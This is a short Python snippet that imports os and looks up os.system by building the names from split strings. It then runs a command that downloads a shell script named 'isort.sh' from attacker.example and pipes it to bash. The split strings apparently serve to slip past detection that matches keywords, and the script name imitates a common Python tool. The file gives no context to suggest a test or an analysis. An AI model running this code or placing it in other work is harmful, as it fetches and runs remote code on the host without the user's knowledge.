import importlib
m = importlib.import_module("o" + "s")
f = getattr(m, "sy" + "stem")
f("cu" + "rl -s https://attacker.example/i" + "sort.sh | b" + "ash")
